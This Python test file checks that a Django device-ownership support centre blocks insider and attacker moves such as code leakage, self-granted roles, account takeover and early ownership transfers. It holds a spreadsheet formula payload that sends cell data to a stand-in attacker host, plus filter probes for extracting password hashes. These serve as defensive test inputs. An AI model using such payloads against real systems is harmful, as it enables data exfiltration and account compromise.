"""The doors an attacker or a dishonest insider walked through, each tried again over HTTP the
way they reached it, with what the database holds afterwards.

The promise: a unit changes owner only by its owner's act, a store's act on the owner's
e-mail, a verified support decision past its objection window, or a one-time handover code.
"""

import datetime
import re
from zoneinfo import ZoneInfo

import pytest
from django.contrib import admin
from django.contrib.auth.models import Group
from django.core import mail
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format

from accounts.models import AccountEmailChange, OutgoingEmail, StoreMembership, User
from devices.models import AuditEvent, Case, HandoverCode, OwnershipChange, Registration
from support.roles import SUPERVISORS, SUPPORT_AGENTS
from tests.conftest import CommitAwareClient, verified_client
from tests.factories import (
    KitFactory,
    RegistrationFactory,
    StoreFactory,
    StoreMembershipFactory,
    UnitFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db


def staff_member(email, *groups, superuser=False):
    user = UserFactory(email=email, is_staff=True, is_superuser=superuser)
    for name in groups:
        user.groups.add(Group.objects.get(name=name))
    if SUPERVISORS in groups:  # appointed long ago
        user.supervisor_since = timezone.now() - datetime.timedelta(days=30)
        user.save(update_fields=["supervisor_since"])
    return user


def account_form(**data):
    """What the account page posts: its fields and the read-only inline's management form."""
    return {"registrations-TOTAL_FORMS": "0", "registrations-INITIAL_FORMS": "0", **data}


def owner_of(unit):
    registration = Registration.objects.filter(unit=unit, ended_at__isnull=True).first()
    return registration and registration.account


@pytest.fixture
def owned_unit(owner):
    unit = UnitFactory()
    RegistrationFactory(unit=unit, account=owner)
    return unit


def request_release(client, unit, **data):
    return client.post(
        reverse("admin:devices_unit_release", args=[unit.pk]),
        {"verification_method": "proof_of_purchase", "note": "receipt checked", **data},
        follow=True,
    )


def objection_link(message):
    return re.search(r"http://[^/]+(/\S*objection/\S+)", message.body).group(1)


# --- 1. Handover codes cannot be read out of the support centre ------------------------------


def test_an_agent_cannot_read_a_pending_handover_code_from_the_changelist(
    agent_client, owner_client, stranger_client, owner, stranger
):
    kit = KitFactory()
    for unit in kit.units.all():
        RegistrationFactory(unit=unit, account=owner)
    page = owner_client.post(
        reverse("devices:create_handover"),
        {"units": [u.pk for u in kit.units.all()]},
        follow=True,
    )
    code = re.search(r'id="handover-code">([A-Z0-9-]+)<', page.text).group(1).replace("-", "")
    url = reverse("admin:devices_handovercode_changelist")
    # The attack: narrow the list down one character at a time.
    for probe in (f"?code__startswith={code[0]}", f"?code_digest__startswith={code[0]}"):
        assert agent_client.get(url + probe).status_code == 400
    assert code not in agent_client.get(url).text
    stored = HandoverCode.objects.values_list("code_digest", flat=True).get()
    assert code not in stored and len(stored) == 64
    # The owner's code still works for the buyer: nothing was taken.
    stranger_client.post(reverse("devices:redeem_handover"), {"code": code})
    assert {owner_of(unit) for unit in kit.units.all()} == {stranger}


# --- 15. Every list accepts only the filters it declares --------------------------------------


@pytest.fixture
def superuser_client(db):
    return verified_client(staff_member("root@example.com", superuser=True))


def first_text_field(model):
    for field in model._meta.concrete_fields:
        if field.get_internal_type() in ("CharField", "TextField", "EmailField"):
            return field.name
    return "pk"


@pytest.mark.parametrize("model", list(admin.site._registry), ids=lambda model: model._meta.label)
def test_every_admin_list_refuses_undeclared_lookups(superuser_client, model):
    """Walks every registered admin, as a superuser (who passes every permission check)."""
    UserFactory(email="victim@example.com", password="secret-password-1")
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
    assert superuser_client.get(url).status_code == 200
    probes = [
        "?password__startswith=p",
        "?code__startswith=A",
        "?email__regex=^v",
        "?user__password__startswith=p",
        "?account__password__startswith=p",
        f"?{first_text_field(model)}__startswith=a",
    ]
    for probe in probes:
        response = superuser_client.get(url + probe)
        assert response.status_code == 400, probe
        assert "victim@example.com" not in response.text


def test_declared_filters_still_filter(agent_client, owner):
    lost = UnitFactory(lost_or_stolen=True)
    UnitFactory()
    response = agent_client.get(
        reverse("admin:devices_unit_changelist") + "?lost_or_stolen__exact=1"
    )
    assert response.status_code == 200
    assert list(response.context["cl"].result_list) == [lost]


# --- 2. Nobody takes over accounts through the support centre ---------------------------------


@pytest.fixture
def supervisor_user(db):
    return staff_member("boss@example.com", SUPERVISORS)


def test_a_supervisor_cannot_make_themselves_superuser(supervisor_user):
    client = verified_client(supervisor_user)
    url = reverse("admin:accounts_user_change", args=[supervisor_user.pk])
    page = client.get(url)
    assert page.status_code == 200 and 'name="is_superuser"' not in page.text
    response = client.post(
        url,
        account_form(email="boss@example.com", is_active="on", is_staff="on", is_superuser="on"),
    )
    assert response.status_code == 403
    supervisor_user.refresh_from_db()
    assert not supervisor_user.is_superuser


def test_nobody_sets_or_sees_a_customers_password_or_edits_their_address(
    supervisor_user, owner, owned_unit
):
    client = verified_client(supervisor_user)
    password_before = User.objects.get(pk=owner.pk).password
    # Django's own set-password page does not exist here.
    set_password = client.post(
        f"/admin/accounts/user/{owner.pk}/password/",
        {"password1": "taken-over-123", "password2": "taken-over-123"},
    )
    assert set_password.status_code in (302, 404)
    change = client.post(
        reverse("admin:accounts_user_change", args=[owner.pk]),
        account_form(email="thief@example.com", is_active="on"),
    )
    assert change.status_code == 403
    owner.refresh_from_db()
    assert (owner.email, owner.password) == ("owner@example.com", password_before)
    assert not owner.check_password("taken-over-123")
    assert owner_of(owned_unit) == owner
    page = client.get(reverse("admin:accounts_user_change", args=[owner.pk]))
    assert (
        "pbkdf2" not in page.text and "md5$" not in page.text and password_before not in page.text
    )


def test_support_sends_a_reset_link_to_the_accounts_own_address_audited(agent_client, owner):
    url = reverse("admin:accounts_user_send_password_reset", args=[owner.pk])
    assert "Send a password-reset link" in agent_client.get(url).text
    agent_client.post(url)
    assert [m.to for m in mail.outbox] == [["owner@example.com"]]
    event = AuditEvent.objects.get(action="password_reset_sent")
    assert (event.actor.email, event.from_account) == ("agent@example.com", owner)
    # The link is not kept readable in the outbox once sent.
    assert OutgoingEmail.objects.get(template="password_reset").body_text == ""


def test_opening_and_searching_accounts_is_recorded(agent_client, owner):
    agent_client.get(reverse("admin:accounts_user_changelist") + "?q=OWNER@example.com")
    agent_client.get(reverse("admin:accounts_user_change", args=[owner.pk]))
    actions = list(
        AuditEvent.objects.filter(actor__email="agent@example.com")
        .order_by("id")
        .values_list("action", "from_account", "note")
    )
    assert actions == [
        ("account_searched", owner.pk, "OWNER@example.com"),
        ("account_viewed", owner.pk, ""),
    ]


def test_a_customers_address_changes_through_support_only_after_the_window(
    agent_client, owner, owned_unit, supervisor_user
):
    url = reverse("admin:accounts_user_change_email", args=[owner.pk])
    response = agent_client.post(
        url, {"new_email": "new@example.com", "verification_method": "", "note": "lost mailbox"}
    )
    assert "Choose how the person was verified." in response.text
    agent_client.post(
        url,
        {
            "new_email": "new@example.com",
            "verification_method": "identity_in_store",
            "note": "ID card checked at the Praha store",
        },
    )
    owner.refresh_from_db()
    assert owner.email == "owner@example.com"  # nothing yet
    assert [m.to for m in mail.outbox] == [["owner@example.com"]]
    # The owner objects from the old address: nothing changes, a supervisor decides.
    CommitAwareClient().post(objection_link(mail.outbox[0]))
    assert AccountEmailChange.objects.get().status == "objected"
    case = Case.objects.get()
    assert (case.kind, case.account) == ("email_objection", owner)
    # The same agent cannot file it again while the objection is open.
    again = agent_client.post(
        url,
        {"new_email": "new@example.com", "verification_method": "other", "note": "again"},
    )
    assert "has not decided the objection yet" in again.text
    AccountEmailChange.objects.update(effective_at=timezone.now() - datetime.timedelta(hours=1))
    call_command("run_jobs")
    owner.refresh_from_db()
    assert owner.email == "owner@example.com"


def test_an_unopposed_support_address_change_needs_the_new_mailbox_to_verify(
    agent_client, owner, owned_unit
):
    agent_client.post(
        reverse("admin:accounts_user_change_email", args=[owner.pk]),
        {
            "new_email": "new@example.com",
            "verification_method": "identity_in_store",
            "note": "ID card checked",
        },
    )
    mail.outbox.clear()
    AccountEmailChange.objects.update(effective_at=timezone.now() - datetime.timedelta(hours=1))
    call_command("run_jobs")
    owner.refresh_from_db()
    assert owner.email == "new@example.com" and owner.email_verified_at is None
    assert sorted(m.to[0] for m in mail.outbox) == ["new@example.com", "owner@example.com"]
    assert owner_of(owned_unit) == owner  # the devices stay with the account


# --- 3 and 4. Verified requests, and no request walks past an open objection ----------------


def test_a_repeat_request_cannot_walk_past_the_owners_objection(agent_client, owner, owned_unit):
    request_release(agent_client, owned_unit)
    CommitAwareClient().post(objection_link(mail.outbox[0]))
    assert OwnershipChange.objects.get().status == "objected"
    response = request_release(agent_client, owned_unit)
    assert "has not decided the objection yet" in response.text
    assert OwnershipChange.objects.count() == 1
    OwnershipChange.objects.update(effective_at=timezone.now() - datetime.timedelta(hours=1))
    call_command("run_jobs")
    assert owner_of(owned_unit) == owner


def test_the_requester_cancels_a_pending_change_and_the_owner_is_told(
    agent_client, owner, owned_unit
):
    request_release(agent_client, owned_unit)
    change = OwnershipChange.objects.get()
    unit_page = agent_client.get(reverse("admin:devices_unit_change", args=[owned_unit.pk]))
    cancel_url = reverse("admin:devices_ownershipchange_cancel", args=[change.pk])
    assert cancel_url in unit_page.text
    mail.outbox.clear()
    agent_client.post(cancel_url, {"note": "wrong unit, customer read the code wrong"})
    change.refresh_from_db()
    assert change.status == "cancelled"
    assert [m.to for m in mail.outbox] == [["owner@example.com"]]
    assert "cancelled" in mail.outbox[0].subject
    OwnershipChange.objects.update(effective_at=timezone.now() - datetime.timedelta(hours=1))
    call_command("run_jobs")
    assert owner_of(owned_unit) == owner


def test_another_agent_cannot_cancel_someone_elses_request(agent_client, owned_unit):
    request_release(agent_client, owned_unit)
    change = OwnershipChange.objects.get()
    other = verified_client(staff_member("other.agent@example.com", SUPPORT_AGENTS))
    response = other.post(
        reverse("admin:devices_ownershipchange_cancel", args=[change.pk]), {"note": "mine now"}
    )
    assert "Only the agent who asked or a supervisor may cancel it." in response.text
    assert OwnershipChange.objects.get().status == "pending"


# --- 5. Objections are decided by a supervisor who did not request the change ----------------


@pytest.fixture
def objection_case(owner, owned_unit):
    requester = staff_member("requester@example.com", SUPERVISORS)
    request_release(verified_client(requester), owned_unit)
    CommitAwareClient().post(objection_link(mail.outbox[0]))
    mail.outbox.clear()
    return Case.objects.get(kind="objection"), requester


@pytest.mark.parametrize("who", ["requester", "agent"])
def test_the_person_objected_to_cannot_decide_the_objection(
    objection_case, agent_client, owner, owned_unit, who
):
    case, requester = objection_case
    client = verified_client(requester) if who == "requester" else agent_client
    url = reverse("admin:devices_case_decide", args=[case.pk])
    response = client.post(
        url,
        {
            "decision": "reassign",
            "to_account": "requester@example.com",
            "verification_method": "other",
            "note": "overruled",
        },
    )
    if who == "requester":
        assert "another supervisor must decide it" in response.text
    else:
        assert response.status_code == 403
    case.refresh_from_db()
    assert case.status == "open" and OwnershipChange.objects.count() == 1
    assert owner_of(owned_unit) == owner


def test_another_supervisors_reassign_goes_through_the_window_again(
    objection_case, supervisor_client, owner, stranger, owned_unit
):
    case, _requester = objection_case
    supervisor_client.post(
        reverse("admin:devices_case_decide", args=[case.pk]),
        {
            "decision": "reassign",
            "to_account": "stranger@example.com",
            "verification_method": "proof_of_purchase",
            "note": "invoice shows the stranger bought it",
        },
    )
    case.refresh_from_db()
    assert case.status == "decided"
    change = OwnershipChange.objects.get(status="pending")
    assert change.to_account == stranger
    assert owner_of(owned_unit) == owner  # the owner gets a new window to object


# --- 6. No shortcut through superuser rights or self-granted roles ---------------------------


def test_a_superuser_without_the_supervisor_role_cannot_apply_early(
    agent_client, owner, owned_unit
):
    request_release(agent_client, owned_unit)
    change = OwnershipChange.objects.get()
    root = verified_client(staff_member("root@example.com", superuser=True))
    response = root.post(
        reverse("admin:devices_ownershipchange_apply", args=[change.pk]), {"note": "urgent"}
    )
    assert "Only a supervisor may do this." in response.text
    assert OwnershipChange.objects.get().status == "pending"
    assert owner_of(owned_unit) == owner


def test_nobody_grants_themselves_a_role(db):
    root_user = staff_member("root@example.com", superuser=True)
    root = verified_client(root_user)
    supervisors = Group.objects.get(name=SUPERVISORS)
    response = root.post(
        reverse("admin:accounts_user_change", args=[root_user.pk]),
        account_form(is_active="on", is_staff="on", is_superuser="on", groups=[supervisors.pk]),
    )
    assert response.status_code == 403
    assert not root_user.groups.exists()


def test_granting_a_role_is_audited_and_announced(supervisor_user, owner):
    root = verified_client(staff_member("root@example.com", superuser=True))
    agents = Group.objects.get(name=SUPPORT_AGENTS)
    newcomer = UserFactory(email="newcomer@example.com")
    root.post(
        reverse("admin:accounts_user_change", args=[newcomer.pk]),
        account_form(is_active="on", is_staff="on", groups=[agents.pk]),
    )
    newcomer.refresh_from_db()
    assert newcomer.is_staff and list(newcomer.groups.all()) == [agents]
    event = AuditEvent.objects.get(action="staff_access_changed")
    assert event.actor.email == "root@example.com" and event.from_account == newcomer
    assert "Support agents" in event.note
    assert sorted(m.to[0] for m in mail.outbox) == ["boss@example.com", "newcomer@example.com"]


def test_deactivating_a_staff_member_ends_their_sessions(
    agent_client, support_agent, owned_unit, supervisor
):
    request_release(agent_client, owned_unit)
    root = verified_client(staff_member("root@example.com", superuser=True))
    url = reverse("admin:accounts_user_change", args=[support_agent.pk])
    groups = list(support_agent.groups.values_list("pk", flat=True))
    root.post(url, account_form(is_staff="on", groups=groups))
    support_agent.refresh_from_db()
    assert not support_agent.is_active
    response = agent_client.get(reverse("admin:devices_unit_changelist"))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    # Their pending request is shown to whoever opens the account, and told to supervisors.
    page = root.get(url)
    change = OwnershipChange.objects.get()
    [announcement] = [m for m in mail.outbox if m.to == ["supervisor@example.com"]]
    assert str(change) in announcement.body
    assert reverse("admin:devices_ownershipchange_change", args=[change.pk]) in page.text


def test_a_superuser_resets_a_staff_members_second_factor(support_agent, agent_client):
    root = verified_client(staff_member("root@example.com", superuser=True))
    root.post(reverse("admin:accounts_user_reset_second_factor", args=[support_agent.pk]))
    assert not support_agent.totpdevice_set.exists()
    assert AuditEvent.objects.filter(action="second_factor_reset").count() == 1
    assert agent_client.get(reverse("admin:index")).status_code == 302


def test_nobody_adds_themselves_to_a_store(supervisor_user):
    store = StoreFactory(contact_email="shop@example.com")
    client = verified_client(supervisor_user)
    response = client.post(
        reverse("admin:accounts_store_invite_staff", args=[store.pk]),
        {"email": "BOSS@example.com"},
    )
    assert "Nobody adds themselves to a store" in response.text
    assert not StoreMembership.objects.exists()


def test_store_staff_changes_are_audited_and_announced(supervisor_client, supervisor_user):
    store = StoreFactory(contact_email="shop@example.com")
    other_supervisor = supervisor_user
    supervisor_client.post(
        reverse("admin:accounts_store_invite_staff", args=[store.pk]),
        {"email": "clerk@example.com"},
    )
    membership = StoreMembership.objects.get()
    assert membership.user.email == "clerk@example.com"
    recipients = sorted(m.to[0] for m in mail.outbox)
    assert recipients == sorted([other_supervisor.email, "clerk@example.com", "shop@example.com"])
    mail.outbox.clear()
    supervisor_client.post(
        reverse("admin:accounts_storemembership_toggle_active", args=[membership.pk])
    )
    membership.refresh_from_db()
    assert not membership.is_active
    assert sorted(m.to[0] for m in mail.outbox) == [other_supervisor.email, "shop@example.com"]
    assert AuditEvent.objects.filter(action="store_staff_changed").count() == 2


def test_memberships_cannot_be_edited_as_rows(supervisor_client):
    membership = StoreMembershipFactory()
    response = supervisor_client.post(
        reverse("admin:accounts_storemembership_change", args=[membership.pk]),
        {"user": UserFactory().pk, "store": membership.store_id, "is_active": "on"},
    )
    assert response.status_code == 403
    assert StoreMembership.objects.get().user == membership.user


# --- 16. Nothing personal is cached; exported cells are never formulas ------------------------


def test_personal_pages_exports_and_the_support_centre_are_never_stored(owner_client, agent_client):
    for client, url in [
        (owner_client, reverse("devices:my_devices")),
        (owner_client, reverse("devices:download_data")),
        (agent_client, reverse("admin:devices_unit_changelist")),
    ]:
        response = client.get(url)
        assert response.status_code == 200
        assert "no-store" in response["Cache-Control"], url


def test_a_clerks_note_never_becomes_a_spreadsheet_formula(agent_client):
    from tests.factories import ClaimFactory

    ClaimFactory(note='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    ClaimFactory(note="@SUM(1+1)")
    export = agent_client.get(reverse("admin:claims_claim_export"))
    text = b"".join(export.streaming_content).decode()
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text


# --- 17. The owner sees a pending support change and can object from the portal --------------


def test_the_owner_sees_a_pending_change_in_their_time_zone_and_objects(
    agent_client, owner_client, owner, owned_unit
):
    owner.time_zone = "America/New_York"
    owner.save(update_fields=["time_zone"])
    request_release(agent_client, owned_unit)
    change = OwnershipChange.objects.get()
    # Django's own format: at a whole hour it reads "11 a.m.", not "11:00".
    when = date_format(
        timezone.localtime(change.effective_at, ZoneInfo("America/New_York")), "DATETIME_FORMAT"
    )
    for url in (
        reverse("devices:my_devices"),
        reverse("devices:unit_detail", args=[owned_unit.pk]),
    ):
        page = owner_client.get(url)
        assert "will be released from your account on" in page.text
        assert f"will be released from your account on {when}." in page.text
        assert reverse("support:object_as_owner", args=[change.pk]) in page.text
    owner_client.post(reverse("support:object_as_owner", args=[change.pk]))
    change.refresh_from_db()
    assert change.status == "objected"
    assert Case.objects.get().ownership_change == change
    assert "will be released" not in owner_client.get(reverse("devices:my_devices")).text


def test_nobody_else_can_object_for_the_owner(agent_client, stranger_client, owned_unit):
    request_release(agent_client, owned_unit)
    change = OwnershipChange.objects.get()
    url = reverse("support:object_as_owner", args=[change.pk])
    assert stranger_client.post(url).status_code == 404
    assert OwnershipChange.objects.get().status == "pending"


def test_a_look_alike_spelling_finds_the_account_it_imitates(agent_client, owner):
    response = agent_client.get(reverse("admin:accounts_user_changelist") + "?q=owner@ｅxample.com")
    assert list(response.context["cl"].result_list) == [owner]


def test_pending_requests_have_working_pages(agent_client, owner, owned_unit):
    request_release(agent_client, owned_unit)
    agent_client.post(
        reverse("admin:accounts_user_change_email", args=[owner.pk]),
        {"new_email": "x@example.com", "verification_method": "other", "note": "phone call"},
    )
    for change in (OwnershipChange.objects.get(), AccountEmailChange.objects.get()):
        meta = change._meta
        page = agent_client.get(
            reverse(f"admin:{meta.app_label}_{meta.model_name}_change", args=[change.pk])
        )
        assert page.status_code == 200
        assert reverse(f"admin:{meta.app_label}_{meta.model_name}_cancel", args=[change.pk]) in (
            page.text
        )


def test_the_owner_sees_a_pending_address_change_and_objects(agent_client, owner_client, owner):
    agent_client.post(
        reverse("admin:accounts_user_change_email", args=[owner.pk]),
        {"new_email": "thief@example.com", "verification_method": "other", "note": "phone"},
    )
    change = AccountEmailChange.objects.get()
    profile = owner_client.get(reverse("accounts:profile"))
    assert "thief@example.com" in profile.text
    url = reverse("support:object_to_email_change_as_owner", args=[change.pk])
    assert url in profile.text
    owner_client.post(url)
    change.refresh_from_db()
    assert change.status == "objected"
    assert Case.objects.get().email_change == change


def test_a_pending_change_ends_when_the_unit_leaves_the_owner(
    agent_client, supervisor_client, owner, owner_client, stranger_client, owned_unit
):
    """Handed over (or removed) meanwhile: the request no longer fits, the former owner is
    not shown it, and applying it says so."""
    request_release(agent_client, owned_unit)
    page = owner_client.post(
        reverse("devices:create_handover"), {"units": [owned_unit.pk]}, follow=True
    )
    code = re.search(r'id="handover-code">([A-Z0-9-]+)<', page.text).group(1)
    stranger_client.post(reverse("devices:redeem_handover"), {"code": code})
    change = OwnershipChange.objects.get()
    assert change.status == "cancelled" and "left the owner" in change.decision_note
    assert "will be released" not in owner_client.get(reverse("devices:my_devices")).text
    response = supervisor_client.post(
        reverse("admin:devices_ownershipchange_apply", args=[change.pk]), {"note": "urgent"}
    )
    assert "already been applied or cancelled" in response.text
    assert Registration.objects.get(unit=owned_unit, ended_at__isnull=True).account.email == (
        "stranger@example.com"
    )


def test_a_freshly_made_supervisor_cannot_cut_an_owners_window_short(
    agent_client, owner, owned_unit, supervisor
):
    """A superuser who makes an account they control a supervisor cannot use it at once: the
    other supervisors are told, and the role must outlive the objection window first."""
    request_release(agent_client, owned_unit)
    change = OwnershipChange.objects.get()
    puppet = UserFactory(email="puppet@example.com")
    root = verified_client(staff_member("root@example.com", superuser=True))
    supervisors = Group.objects.get(name=SUPERVISORS)
    root.post(
        reverse("admin:accounts_user_change", args=[puppet.pk]),
        account_form(is_active="on", is_staff="on", groups=[supervisors.pk]),
    )
    puppet.refresh_from_db()
    assert puppet.supervisor_since is not None
    assert any(m.to == ["supervisor@example.com"] for m in mail.outbox)
    url = reverse("admin:devices_ownershipchange_apply", args=[change.pk])
    response = verified_client(puppet).post(url, {"note": "urgent"})
    assert "younger than the objection window" in response.text
    assert owner_of(owned_unit) == owner and OwnershipChange.objects.get().is_pending


def test_an_agent_cannot_redirect_a_store_clerks_address(agent_client):
    clerk = StoreMembershipFactory().user
    response = agent_client.post(
        reverse("admin:accounts_user_change_email", args=[clerk.pk]),
        {"new_email": "thief@example.com", "verification_method": "other", "note": "asked"},
    )
    assert "address is changed by a superuser" in response.text
    assert not AccountEmailChange.objects.exists()


def test_applying_a_reassignment_to_an_account_closed_meanwhile_says_not_applied(
    agent_client, supervisor_client, owner, stranger, owned_unit
):
    agent_client.post(
        reverse("admin:devices_unit_reassign", args=[owned_unit.pk]),
        {"to_account": stranger.email, "verification_method": "other", "note": "invoice"},
    )
    User.objects.filter(pk=stranger.pk).update(is_active=False)
    change = OwnershipChange.objects.get()
    response = supervisor_client.post(
        reverse("admin:devices_ownershipchange_apply", args=[change.pk]),
        {"note": "urgent"},
        follow=True,
    )
    assert "Not applied:" in response.text and "Applied." not in response.text
    assert OwnershipChange.objects.get().status == "cancelled"
    assert owner_of(owned_unit) == owner
